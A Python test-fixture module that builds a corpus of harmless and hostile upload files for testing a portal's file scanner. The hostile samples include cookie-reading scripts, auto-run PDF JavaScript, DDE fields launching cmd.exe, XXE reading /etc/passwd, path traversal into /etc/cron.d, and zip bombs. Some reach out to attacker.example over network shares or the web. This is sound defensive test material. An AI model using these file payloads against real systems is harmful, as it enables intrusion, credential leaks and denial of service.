"""The test corpus: good files of every allowed type and the bad ones a provider (or an attacker)
might send, built here from a few lines each so that nothing opaque is checked in.

Small files are built in memory; the big ones (a zip bomb, a file just over the size limit) are
written once per test session to a temporary directory.
"""

from __future__ import annotations

import gzip
import io
import struct
import warnings
import zipfile
import zlib
from pathlib import Path

from PIL import Image

from portal.demo.pdf import one_page_pdf, pdf_of
from tests.support.clamd import eicar

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{main}"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{part}"/></Relationships>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def _zip(entries: list[tuple[str, bytes | str]], *, stored_first: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (name, data) in enumerate(entries):
            compress = zipfile.ZIP_STORED if stored_first and index == 0 else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compress)
    return buffer.getvalue()


def docx(*, main: str = DOCX_MAIN, extra: list[tuple[str, bytes | str]] = ()) -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _CONTENT_TYPES.format(part="word/document.xml", main=main)),
            ("_rels/.rels", _RELS.format(part="word/document.xml")),
            (
                "word/document.xml",
                '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Safeguarding policy</w:t>'
                "</w:r></w:p></w:body></w:document>",
            ),
            *extra,
        ]
    )


def xlsx() -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _CONTENT_TYPES.format(part="xl/workbook.xml", main=XLSX_MAIN)),
            ("_rels/.rels", _RELS.format(part="xl/workbook.xml")),
            ("xl/workbook.xml", "<workbook/>"),
        ]
    )


def odt(*, extra: list[tuple[str, bytes | str]] = ()) -> bytes:
    return _zip(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", "<manifest/>"),
            (
                "content.xml",
                '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:'
                'office:1.0"/>',
            ),
            *extra,
        ],
        stored_first=True,
    )


def pdf(body: bytes = b"BT /F1 12 Tf 72 720 Td (Insurance certificate) Tj ET") -> bytes:
    return one_page_pdf(body)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00\x00\xff\x00" * 2)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg(**save) -> bytes:
    """A small photo, as a camera or phone would save it (Pillow's encoder); `save` adds what
    the camera would add (exif=...)."""
    out = io.BytesIO()
    Image.new("RGB", (8, 6), (200, 30, 30)).save(out, "JPEG", **save)
    return out.getvalue()


GOOD = {
    "policy.pdf": pdf,
    "policy.docx": docx,
    "accounts.xlsx": xlsx,
    "policy.odt": odt,
    "certificate.jpg": jpeg,
    "certificate.jpeg": jpeg,
    "certificate.png": png,
}


def executable() -> bytes:
    """The start of this machine's `true` program: a real ELF executable."""
    return Path("/bin/true").read_bytes()


def html_with_script() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def pdf_with_javascript() -> bytes:
    """A PDF that runs a script when opened."""
    return pdf().replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
    )


def pdf_with_escaped_javascript() -> bytes:
    """The same, with the names spelt in #xx escapes, as malicious PDFs do to slip past filters."""
    return pdf().replace(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >> >>",
    )


def pdf_html_polyglot() -> bytes:
    """A PDF that a browser would also run as a web page."""
    return pdf(b"<html><script>alert(document.cookie)</script></html>")


def pdf_zip_polyglot() -> bytes:
    """A PDF with a zip (holding an executable) behind it, whose comment ends in %%EOF so that
    it still looks like a complete PDF from its end."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.exe", executable()[:4096])
        archive.comment = b"\n%%EOF\n"
    return pdf() + buffer.getvalue()


def docx_with_macro() -> bytes:
    return docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 512)])


def docm_renamed_docx() -> bytes:
    """A macro-enabled Word document (.docm) saved under a .docx name."""
    return docx(main=DOCM_MAIN)


def odt_with_macro() -> bytes:
    return odt(
        extra=[
            (
                "Basic/Standard/Module1.xml",
                '<script:module xmlns:script="http://openoffice.org/2000/script" '
                'script:name="Module1">Sub Main\nEnd Sub</script:module>',
            )
        ]
    )


def docx_with_eicar() -> bytes:
    """A working DOCX carrying the EICAR test file, as an embedded object would."""
    return docx(extra=[("word/embeddings/oleObject1.bin", eicar())])


def truncated_pdf() -> bytes:
    whole = pdf()
    return whole[: len(whole) // 2]


def zip_bomb(path: Path) -> Path:
    """A DOCX that unpacks to 400MB of zeros from a few hundred kilobytes."""
    if not path.exists():
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(
                "[Content_Types].xml",
                _CONTENT_TYPES.format(part="word/document.xml", main=DOCX_MAIN),
            )
            archive.writestr("_rels/.rels", _RELS.format(part="word/document.xml"))
            archive.writestr("word/document.xml", "<w:document/>")
            with archive.open("word/media/image1.png", "w", force_zip64=True) as entry:
                zeros = b"\x00" * (4 * 1024 * 1024)
                for _ in range(100):
                    entry.write(zeros)
    return path


def many_entries() -> bytes:
    return docx(extra=[(f"word/media/{n}.xml", "") for n in range(5001)])


def over_limit(path: Path, limit_mb: int) -> Path:
    """A PDF one byte over the limit: padding in a comment before the end."""
    if not path.exists():
        head = pdf()
        padding = limit_mb * 1024 * 1024 + 1 - len(head)
        with path.open("wb") as out:
            out.write(head[:-6])
            out.write(b"%" + b"0" * (padding - 2) + b"\n")
            out.write(head[-6:])
    return path


# Hostile files beyond the first corpus (issue 14) ------------------------------------------------
# PDFs that hide what they run where a scan of the raw bytes cannot see it, PDFs a scanner cannot
# read, archives nested past a scanner's depth, damaged Office files, Office files that run or
# fetch things, and images that carry more than a picture.


_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _page(extra: bytes = b"") -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] %s >>" % extra


def pdf_with_compressed_objects(plain: list[bytes], packed: list[bytes]) -> bytes:
    """A PDF 1.5 whose objects after `plain` (1 the catalog, ...) sit in a compressed object
    stream, listed by a compressed cross-reference stream, as modern PDF writers save them: no
    name of a packed object appears in the file's bytes."""
    first_packed = len(plain) + 1
    stream_number = first_packed + len(packed)
    xref_number = stream_number + 1
    header, body = [], b""
    for index, content in enumerate(packed):
        header.append(b"%d %d" % (first_packed + index, len(body)))
        body += content + b"\n"
    header_bytes = b" ".join(header) + b"\n"
    data = zlib.compress(header_bytes + body)
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, content in enumerate(plain, start=1):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    offsets[stream_number] = out.tell()
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n"
        % (stream_number, len(packed), len(header_bytes), len(data), data)
    )
    offsets[xref_number] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if first_packed <= number < stream_number:
            rows.append(struct.pack(">BIH", 2, stream_number, number - first_packed))
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = zlib.compress(b"".join(rows))
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (xref_number, xref_number + 1, len(table), table)
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return out.getvalue()


def pdf_compressed() -> bytes:
    """A harmless PDF saved with compressed objects: it must be accepted."""
    return pdf_with_compressed_objects([b"<< /Type /Catalog /Pages 2 0 R >>"], [_PAGES, _page()])


def pdf_script_in_object_stream() -> bytes:
    """A script run on opening, in an object compressed out of sight of a byte scan."""
    return pdf_with_compressed_objects(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"],
        [_PAGES, _page(), b"<< /S /JavaScript /JS (app.alert(1)) >>"],
    )


def pdf_embedded_file_in_object_stream() -> bytes:
    """An attached program, named in the catalog's name tree, compressed."""
    return pdf_with_compressed_objects(
        [b"<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>"],
        [
            _PAGES,
            _page(),
            b"<< /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>",
            b"<< /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>",
            b"<< /Length 4 >>",
        ],
    )


def pdf_rendition_script() -> bytes:
    """A page that runs a script through a media (Rendition) action, no /JavaScript anywhere."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES,
            _page(b"/AA << /O << /S /Rendition /R 4 0 R /JS (app.alert(1)) >> >>"),
            b"<< /Type /Rendition /S /MR >>",
        ]
    )


def pdf_import_data() -> bytes:
    """Opening the PDF loads form data from another file."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /ImportData /F (data.fdf) >> >>",
            _PAGES,
            _page(),
        ]
    )


def pdf_remote_goto() -> bytes:
    """Opening the PDF opens another one from a network share (which leaks the reader's
    Windows credentials to whoever runs the share)."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR "
            b"/F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>",
            _PAGES,
            _page(),
        ]
    )


def pdf_file_attachment_annotation() -> bytes:
    """A paperclip on the page that carries a file."""
    return pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES,
            _page(b"/Annots [4 0 R]"),
            b"<< /Subtype /FileAttachment /Rect [0 0 10 10] /FS (invoice.exe) >>",
        ]
    )


def pdf_encrypted() -> bytes:
    """A PDF with an owner password only: it opens without one, but its content is encrypted,
    so a virus scanner cannot read it."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password="", owner_password="secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_too_many_objects() -> bytes:
    """A small PDF of 50,001 objects: each costs a reader time to parse."""
    return pdf_of([b"<< /Type /Catalog /Pages 2 0 R >>", _PAGES, _page()] + [b"0"] * 49_998)


def pdf_unreadable() -> bytes:
    """A PDF header and end with nothing a reader can parse between them."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def _rewrite(entries: list[tuple[str, bytes | str]], change) -> bytes:
    """A zip of `entries`, then `change(zip bytes)`: damage as a disk or a hostile hand does."""
    return change(_zip(entries))


def _docx_entries(document: str | None = None, extra=()) -> list[tuple[str, bytes | str]]:
    body = document or (
        '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
        'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Safeguarding policy</w:t>'
        "</w:r></w:p></w:body></w:document>"
    )
    return [
        ("[Content_Types].xml", _CONTENT_TYPES.format(part="word/document.xml", main=DOCX_MAIN)),
        ("_rels/.rels", _RELS.format(part="word/document.xml")),
        ("word/document.xml", body),
        *extra,
    ]


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _word(paragraphs: str) -> str:
    return f'<?xml version="1.0"?><w:document {W}><w:body>{paragraphs}</w:body></w:document>'


def docx_with_zip_inside() -> bytes:
    """A zip (holding a program) packed inside the document."""
    return docx(extra=[("word/embeddings/files.zip", _zip([("run.exe", executable()[:4096])]))])


def deeply_nested_zip(levels: int = 20) -> bytes:
    """EICAR inside `levels` zips: deeper than clamd looks (MaxRecursion, 17 by default)."""
    inner = eicar()
    for level in range(levels):
        inner = _zip([(f"level{level}.zip" if level else "eicar.com", inner)])
    return inner


def docx_with_deeply_nested_zips() -> bytes:
    return docx(extra=[("word/embeddings/oleObject1.bin", deeply_nested_zip())])


def docx_in_xlsx_in_docx() -> bytes:
    """Office documents nested two deep: the inner one is one level too many."""
    workbook = _zip(
        [
            ("[Content_Types].xml", _CONTENT_TYPES.format(part="xl/workbook.xml", main=XLSX_MAIN)),
            ("_rels/.rels", _RELS.format(part="xl/workbook.xml")),
            ("xl/workbook.xml", "<workbook/>"),
            ("xl/embeddings/inner.docx", docx()),
        ]
    )
    return docx(extra=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", workbook)])


def docx_with_chart_workbook() -> bytes:
    """A chart's workbook inside a DOCX, as Word saves a chart: one level of nesting, allowed."""
    return docx(extra=[("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx())])


def docx_with_gzip_inside() -> bytes:
    return docx(extra=[("word/media/data.bin", gzip.compress(executable()[:4096]))])


def docx_with_image_zip_polyglot_inside() -> bytes:
    """A picture in the document with a zip behind it."""
    return docx(extra=[("word/media/image1.png", png() + _zip([("run.exe", b"MZ" * 100)]))])


def docx_with_bad_name_encoding() -> bytes:
    """A part whose name says it is UTF-8 and is not (zipfile raises UnicodeDecodeError)."""

    def change(data: bytes) -> bytes:
        # Flag bit 11 (UTF-8 names) on every header, and a name that is not UTF-8.
        data = data.replace(b"word/document.xml", b"word/docume\xff\xfe.xml")
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x00\x08")
        return data.replace(
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x00\x08"
        )

    return _rewrite(_docx_entries(), change)


def _corrupt_data_of(name: bytes, data: bytes) -> bytes:
    """Overwrite the compressed data of the entry `name` with bytes no inflater accepts."""
    header = data.index(name) - 30  # its local header comes first, 30 bytes before its name
    size, _, name_length, extra_length = struct.unpack("<IIHH", data[header + 18 : header + 30])
    start = header + 30 + name_length + extra_length
    return data[:start] + b"\xff" * size + data[start + size :]


def docx_with_corrupt_compressed_data() -> bytes:
    return _rewrite(_docx_entries(), lambda data: _corrupt_data_of(b"word/document.xml", data))


def xlsx_with_corrupt_compressed_data() -> bytes:
    entries = [
        ("[Content_Types].xml", _CONTENT_TYPES.format(part="xl/workbook.xml", main=XLSX_MAIN)),
        ("_rels/.rels", _RELS.format(part="xl/workbook.xml")),
        ("xl/workbook.xml", "<workbook>" + "<sheet/>" * 50 + "</workbook>"),
    ]
    return _rewrite(entries, lambda data: _corrupt_data_of(b"xl/workbook.xml", data))


def docx_with_bad_checksum() -> bytes:
    """The document part's CRC does not match its data."""
    good = zipfile.ZipFile(io.BytesIO(docx())).getinfo("word/document.xml").CRC
    wrong = struct.pack("<I", good ^ 0xFFFFFFFF)
    return docx().replace(struct.pack("<I", good), wrong)


def truncated_docx() -> bytes:
    whole = docx()
    return whole[: len(whole) * 2 // 3]


def docx_with_broken_xml() -> bytes:
    return _zip(_docx_entries(document=f"<w:document {W}><w:body><w:p>"))


def odt_with_broken_xml() -> bytes:
    return _zip(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", "<manifest/>"),
            ("content.xml", "<office:document-content"),
        ],
        stored_first=True,
    )


def docx_with_ddeauto_field() -> bytes:
    """DDEAUTO runs a program when the document opens; its code split across runs, as Word
    stores it and as attackers split it to slip past filters."""
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText>DDE</w:instrText></w:r>"
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _zip(_docx_entries(document=_word(f"<w:p>{runs}</w:p>")))


def docx_with_ordinary_fields() -> bytes:
    """Page numbers, a hyperlink and { IF { MERGEFIELD x } ... }: fields Word documents are full
    of, which run nothing."""

    def field(*parts: str) -> str:
        return "".join(
            f'<w:r><w:fldChar w:fldCharType="{part[1:]}"/></w:r>'
            if part.startswith("!")
            else f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
            for part in parts
        )

    return _zip(
        _docx_entries(
            document=_word(
                "<w:p>"
                + field("!begin", " PAGE ", "!separate", "!end")
                + field("!begin", ' HYPERLINK "https://www.gov.uk/" ', "!separate", "!end")
                + field("!begin", " IF ", "!begin", " MERGEFIELD x ", "!end", ' = "y" "a" "b"')
                + field("!separate", "!end")
                + '<w:fldSimple w:instr=" NUMPAGES "/></w:p>'
            )
        )
    )


def docx_with_dde_simple_field() -> bytes:
    return _zip(
        _docx_entries(
            document=_word(
                '<w:p><w:fldSimple w:instr=" DDE cmd.exe &quot;/c calc&quot; A1"><w:r><w:t>x'
                "</w:t></w:r></w:fldSimple></w:p>"
            )
        )
    )


def docx_with_field_named_by_a_nested_field() -> bytes:
    """{ { QUOTE 68 68 69 } cmd.exe ... }: the field's name (DDE) is made by a nested field."""
    runs = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        "<w:r><w:instrText> cmd.exe /c calc</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return _zip(_docx_entries(document=_word(f"<w:p>{runs}</w:p>")))


def docx_with_include_text_field() -> bytes:
    """INCLUDETEXT pulls in a file from a network share when fields update."""
    return _zip(
        _docx_entries(
            document=_word(
                '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\attacker.example\\\\s\\\\'
                'a.docx&quot;"/></w:p>'
            )
        )
    )


def docx_with_external_template() -> bytes:
    """The document loads its template (macros and all) from a web address when opened."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    return docx(
        extra=[
            ("word/settings.xml", f"<w:settings {W}/>"),
            ("word/_rels/settings.xml.rels", rels),
        ]
    )


def docx_with_a_web_link() -> bytes:
    """A hyperlink is an external relationship too, and harmless: it must be accepted."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://www.gov.uk/" TargetMode="External"/></Relationships>'
    )
    return docx(extra=[("word/_rels/document.xml.rels", rels)])


def docx_with_xxe() -> bytes:
    """The document part reads a file from the server that parses it (XML external entity)."""
    return _zip(
        _docx_entries(
            document='<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM '
            f'"file:///etc/passwd">]><w:document {W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r>'
            "</w:p></w:body></w:document>"
        )
    )


def docx_with_billion_laughs() -> bytes:
    """[Content_Types].xml expands to gigabytes of text (entity expansion)."""
    entities = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )
    content_types = _CONTENT_TYPES.format(part="word/document.xml", main=DOCX_MAIN).replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Types [{entities}]>',
    )
    entries = _docx_entries()
    return _zip(
        [
            ("[Content_Types].xml", content_types.replace("<Types ", "<Types a='&l9;' ")),
            *entries[1:],
        ]
    )


def docx_with_doctype_in_relationships() -> bytes:
    rels = _RELS.format(part="word/document.xml").replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE Relationships SYSTEM '
        '"https://attacker.example/dtd">',
    )
    entries = _docx_entries()
    return _zip([entries[0], ("_rels/.rels", rels), entries[2]])


def docx_with_entry(name: str) -> bytes:
    return _zip(_docx_entries(extra=[(name, "#!/bin/sh\necho pwned\n")]))


def docx_with_path_traversal() -> bytes:
    """A part that an unzip program would write outside the folder it unzips to."""
    return docx_with_entry("../../../../etc/cron.d/evil")


def docx_with_absolute_path() -> bytes:
    return docx_with_entry("/etc/cron.d/evil")


def docx_with_windows_path() -> bytes:
    return docx_with_entry("C:\\Windows\\System32\\evil.bat")


def docx_with_symlink() -> bytes:
    """A part that is a symbolic link to a file on the machine that unzips it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in _docx_entries():
            archive.writestr(name, data)
        link = zipfile.ZipInfo("word/media/image1.png")
        link.create_system = 3
        link.external_attr = (0o120777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def docx_with_a_part_named_twice() -> bytes:
    """Two document parts of one name: the scanner may read one and Word the other."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
        return _zip(
            [
                *_docx_entries(),
                ("word/document.xml", _word("<w:p><w:r><w:t>Other</w:t></w:r></w:p>")),
            ]
        )


def xlsx_with(parts: list[tuple[str, str]]) -> bytes:
    return _zip(
        [
            ("[Content_Types].xml", _CONTENT_TYPES.format(part="xl/workbook.xml", main=XLSX_MAIN)),
            ("_rels/.rels", _RELS.format(part="xl/workbook.xml")),
            ("xl/workbook.xml", "<workbook/>"),
            *parts,
        ]
    )


S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def xlsx_with_dde_formula() -> bytes:
    """A cell whose formula starts a program (Excel's DDE syntax)."""
    return xlsx_with(
        [
            (
                "xl/worksheets/sheet1.xml",
                f'<worksheet {S}><sheetData><row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f>'
                "</c></row></sheetData></worksheet>",
            )
        ]
    )


def xlsx_with_dde_link() -> bytes:
    return xlsx_with(
        [
            (
                "xl/externalLinks/externalLink1.xml",
                f'<externalLink {S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
            )
        ]
    )


def xlsx_with_web_query() -> bytes:
    """A data connection that fetches a web page into the workbook."""
    return xlsx_with(
        [
            (
                "xl/connections.xml",
                f'<connections {S}><connection id="1" name="q" type="4">'
                '<webPr url="https://attacker.example/data"/></connection></connections>',
            )
        ]
    )


OFFICE = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
TEXT = 'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
SCRIPT = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'


def odt_with_content(body: str) -> bytes:
    return _zip(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", "<manifest/>"),
            (
                "content.xml",
                f"<office:document-content {OFFICE} {TEXT} {XLINK} {SCRIPT}>{body}"
                "</office:document-content>",
            ),
        ],
        stored_first=True,
    )


def odt_with_dde() -> bytes:
    return odt_with_content(
        '<text:dde-connection-decls><text:dde-connection-decl text:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="A1"/>'
        "</text:dde-connection-decls>"
    )


def odt_with_dde_formula() -> bytes:
    """A table cell whose formula asks another program for its value."""
    return odt_with_content(
        '<office:body><office:text><table:table xmlns:table="urn:oasis:names:tc:opendocument:'
        'xmlns:table:1.0"><table:table-row><table:table-cell table:formula="of:=DDE(&quot;cmd'
        '&quot;;&quot;/c calc&quot;;&quot;A1&quot;)"/></table:table-row></table:table>'
        "</office:text></office:body>"
    )


def odt_with_linked_section() -> bytes:
    """A section whose text is read from a file on the reader's machine."""
    return odt_with_content(
        '<office:body><office:text><text:section text:name="s"><text:section-source '
        'xlink:href="file:///etc/passwd"/></text:section></office:text></office:body>'
    )


def odt_with_event_script() -> bytes:
    """A script bound to the document's opening."""
    return odt_with_content(
        '<office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:x?language=Basic"/>'
        "</office:event-listeners>"
    )


def png_bomb() -> bytes:
    """A few hundred bytes that declare an image of 100,000 by 100,000 pixels (30GB decoded)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 300_001 * 10)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A JPEG whose frame header claims 60,000 by 60,000 pixels."""
    small = jpeg()
    frame = small.index(b"\xff\xc0")
    return small[: frame + 5] + struct.pack(">HH", 60_000, 60_000) + small[frame + 9 :]


def truncated_png() -> bytes:
    out = io.BytesIO()
    Image.effect_noise((64, 64), 50).convert("RGB").save(out, "PNG")
    whole = out.getvalue()
    return whole[: len(whole) // 2]


# Images that are kept, but only as the portal encodes them again: what they carry beyond the
# picture is gone.


def jpeg_with_script_after_the_end() -> bytes:
    """A JPEG that a browser sniffing its content would also run as HTML."""
    return jpeg() + b"<html><script>alert(document.cookie)</script></html>"


def jpeg_with_script_in_its_comment() -> bytes:
    """A JPEG/JavaScript polyglot keeps its script in a comment segment inside the image."""
    return jpeg(comment=b"*/=1;alert(document.cookie)/*<script>alert(1)</script>")


def png_with_zip_appended() -> bytes:
    return png() + _zip([("run.exe", executable()[:4096])])


def jpeg_with_gps() -> bytes:
    """A phone photo that says where it was taken (EXIF GPS: 51.5N, 0.1W)."""
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0), 3: "W", 4: (0.0, 6.0, 0.0)}
    exif[0x010F] = "PhoneMaker"
    return jpeg(exif=exif.tobytes())


# Harmless files that look like hostile ones at first sight: they are kept like any other.
GOOD |= {
    "compressed.pdf": pdf_compressed,
    "with-chart.docx": docx_with_chart_workbook,
    "with-link.docx": docx_with_a_web_link,
    "with-fields.docx": docx_with_ordinary_fields,
}
